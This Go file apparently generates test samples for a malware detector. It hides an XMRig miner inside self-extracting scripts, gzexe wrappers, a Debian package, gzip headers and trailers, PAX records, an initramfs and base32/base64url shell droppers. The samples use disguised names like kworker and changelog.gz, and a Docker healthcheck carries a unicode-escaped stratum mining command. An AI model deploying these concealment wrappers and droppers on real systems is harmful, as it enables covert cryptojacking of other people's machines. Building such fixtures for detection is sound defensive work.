package samples

import (
	"archive/tar"
	"bytes"
	"encoding/base32"
	"encoding/base64"
	"fmt"
	"strings"

	"github.com/ulikunitz/xz/lzma"
)

// SelfExtracting is a script in makeself's default form: the script,
// then a .tar.gz of files that it unpacks from its own file with tail and
// runs.
func SelfExtracting(files ...File) []byte {
	header := "#!/bin/sh\n# self-extracting archive\nd=/tmp/.x; mkdir -p $d\n" +
		"tail -c +%07d \"$0\" | tar xzf - -C $d && exec $d/xmrig-6.21.0/xmrig\nexit 1\n"
	off := len(fmt.Sprintf(header, 0)) + 1
	return append([]byte(fmt.Sprintf(header, off)), Gzip(Tar(files...))...)
}

// Basenc is a dropper that writes data from a here-document in one of
// coreutils' basenc encodings (flag is basenc's, "--base32" or
// "--base64url"), in lines of 76 characters as basenc writes them, and
// runs it.
func Basenc(flag string, data []byte) string {
	var enc string
	switch flag {
	case "--base32":
		enc = base32.StdEncoding.EncodeToString(data)
	case "--base64url":
		enc = base64.URLEncoding.EncodeToString(data)
	default:
		panic("samples: no encoding " + flag)
	}
	var b strings.Builder
	b.WriteString("#!/bin/sh\nbasenc " + flag + " -d > /tmp/.k <<'EOF'\n")
	for len(enc) > 76 {
		b.WriteString(enc[:76] + "\n")
		enc = enc[76:]
	}
	b.WriteString(enc + "\nEOF\nchmod +x /tmp/.k && exec /tmp/.k\n")
	return b.String()
}

// Gzexed is data as Debian's gzexe leaves it: a script that unpacks the
// gzip behind its own lines into a temporary file and runs it.
func Gzexed(data []byte) []byte {
	header := "#!/bin/sh\nskip=%d\n" +
		"gztmpdir=`mktemp -d /tmp/gztmpXXXXXXXXX` || exit 1\n" +
		"gztmp=$gztmpdir/$0\ntail -n +$skip \"$0\" | gzip -cd > \"$gztmp\" && chmod 700 \"$gztmp\"\n" +
		"\"$gztmp\" ${1+\"$@\"}; res=$?\nrm -rf \"$gztmpdir\"\nexit $res\n"
	skip := bytes.Count([]byte(header), []byte("\n")) + 1
	return append([]byte(fmt.Sprintf(header, skip)), Gzip(data)...)
}

// Deb is a Debian package whose data.tar.gz holds files, as dpkg-deb
// builds it: an ar archive of debian-binary, control.tar.gz, data.tar.gz.
func Deb(files ...File) []byte {
	control := Gzip(Tar(File{Path: "control", Mode: 0o644, Data: []byte("Package: tool\nVersion: 1.0\nArchitecture: amd64\nMaintainer: x <x@example.com>\nDescription: tool\n")}))
	var b bytes.Buffer
	b.WriteString("!<arch>\n")
	for _, m := range []struct {
		name string
		data []byte
	}{{"debian-binary", []byte("2.0\n")}, {"control.tar.gz", control}, {"data.tar.gz", Gzip(Tar(files...))}} {
		fmt.Fprintf(&b, "%-16s%-12d%-6d%-6d%-8s%-10d`\n", m.name, 0, 0, 0, "100644", len(m.data))
		b.Write(m.data)
		if len(m.data)%2 == 1 {
			b.WriteByte('\n')
		}
	}
	return b.Bytes()
}

// Lzma is data in LZMA's own format (.lzma, as xz --format=lzma writes it).
func Lzma(data []byte) []byte {
	var b bytes.Buffer
	w, err := lzma.NewWriter(&b)
	if err != nil {
		panic(err)
	}
	w.Write(data)
	w.Close()
	return b.Bytes()
}

// InFramesOfTwoFormats is data cut into eight slices, each in a gzip
// member or an .lzma stream in turn: zstd -dc, which switches format at
// each frame, writes data; each stream on its own holds one slice.
func InFramesOfTwoFormats(data []byte) []byte {
	var out []byte
	for i := range 8 {
		slice := data[i*len(data)/8 : (i+1)*len(data)/8]
		if i%2 == 0 {
			out = append(out, Gzip(slice)...)
		} else {
			out = append(out, Lzma(slice)...)
		}
	}
	return out
}

// AfterGzip is a benign gzip file with other bytes and then data's gzip
// after it: gzip -dc gives the benign text, tail -c +N | gzip -dc data.
func AfterGzip(data []byte) []byte {
	return bytes.Join([][]byte{Gzip([]byte("release notes\n")), []byte("\x00\x01 trailer\n"), Gzip(data)}, nil)
}

// InGzipExtra is a benign gzip file whose header's extra field (FEXTRA,
// which gzip -d passes over) holds data's gzip, for tail -c +13 to cut
// out. data's gzip must be under 64 KiB.
func InGzipExtra(data []byte) []byte {
	plain, inner := Gzip([]byte("release notes\n")), Gzip(data)
	out := append([]byte{}, plain[:3]...)
	out = append(out, plain[3]|4) // FEXTRA
	out = append(out, plain[4:10]...)
	out = append(out, byte(len(inner)), byte(len(inner)>>8))
	out = append(out, inner...)
	return append(out, plain[10:]...)
}

// InPaxRecord is a tar holding a benign file whose PAX record (a
// comment, which tar x passes over) holds data's gzip, for tail -c to cut
// out.
func InPaxRecord(data []byte) []byte {
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	note := []byte("release notes\n")
	hdr := &tar.Header{Name: "NOTES", Mode: 0o644, Size: int64(len(note)), Typeflag: tar.TypeReg,
		Format: tar.FormatPAX, PAXRecords: map[string]string{"comment": string(Gzip(data))}}
	if err := tw.WriteHeader(hdr); err != nil {
		panic(err)
	}
	tw.Write(note)
	tw.Close()
	return buf.Bytes()
}

// Cpio is a cpio archive of files in the newc form, as initramfs images
// hold them.
func Cpio(files ...File) []byte {
	var b bytes.Buffer
	entry := func(name string, mode int64, data []byte) {
		fmt.Fprintf(&b, "070701%08x%08x%08x%08x%08x%08x%08x%08x%08x%08x%08x%08x%08x%s\x00",
			1, mode, 0, 0, 1, 0, len(data), 0, 0, 0, 0, len(name)+1, 0, name)
		b.Write(make([]byte, (4-b.Len()%4)%4))
		b.Write(data)
		b.Write(make([]byte, (4-b.Len()%4)%4))
	}
	for _, f := range files {
		entry(strings.TrimPrefix(f.Path, "/"), 0o100000|f.Mode, f.Data)
	}
	entry("TRAILER!!!", 0, nil)
	return b.Bytes()
}

// wrapperPositives are miners behind the wrappers a host's own tools
// unpack: a self-extracting script, gzexe, a Debian package, .lzma, a
// gzip after a benign one or in its header (tail -c cuts either out),
// frames of two formats that zstd -dc joins, base32 and base64url that
// basenc -d reads, and a healthcheck written with JSON's escapes.
func wrapperPositives() []Case {
	escaped := ""
	for _, r := range "/tmp/x -o stratum+tcp://" + Pool + " -u " + Wallet {
		escaped += fmt.Sprintf("\\u%04x", r)
	}
	return []Case{
		one("makeself-raw-tar-gz", "archive", script("/tmp/install.run", string(SelfExtracting(XMRigRelease()...))), "MinerXMRig"),
		one("gzexe-xmrig", "archive", exe("/usr/bin/kworker", Gzexed(XMRig())), "MinerXMRig"),
		one("deb-with-xmrig", "archive", text("/var/cache/apt/archives/tool_1.0_amd64.deb", string(Deb(exe("usr/bin/kworker", XMRig())))), "MinerXMRig"),
		one("xmrig-lzma", "archive", text("/opt/x/kworker.lzma", string(Lzma(XMRig()))), "MinerXMRig"),
		one("xmrig-after-a-gzip", "archive", text("/usr/share/doc/tool/changelog.gz", string(AfterGzip(XMRig()))), "MinerXMRig"),
		one("xmrig-in-a-gzip-header", "archive", text("/usr/share/doc/tool/NEWS.gz", string(InGzipExtra(XMRig()))), "MinerXMRig"),
		one("xmrig-in-a-pax-record", "archive", text("/usr/share/doc/tool/notes.tar.gz", string(Gzip(InPaxRecord(XMRig())))), "MinerXMRig"),
		one("xmrig-in-an-initramfs", "archive", text("/boot/initrd.img-6.1.0-amd64", string(Gzip(Cpio(exe("usr/bin/kworker", XMRig()))))), "MinerXMRig"),
		one("xmrig-in-frames-of-two-formats", "archive", text("/opt/x/kworker.zst", string(InFramesOfTwoFormats(XMRig()))), "MinerXMRig"),
		one("xmrig-base32-dropper", "archive", script("/usr/local/bin/update.sh", Basenc("--base32", XMRig())), "MinerXMRig"),
		one("xmrig-base64url-dropper", "archive", script("/usr/local/bin/sync.sh", Basenc("--base64url", XMRig())), "MinerXMRig"),
		{Name: "config-healthcheck-escaped", Family: "image-config",
			Config: []byte(`{"config":{"Cmd":["nginx"],"Healthcheck":{"Test":["CMD-SHELL","` + escaped + `"]}}}`),
			Rules:  []string{"MinerInImageConfig", "MinerCommandLine"}},
	}
}
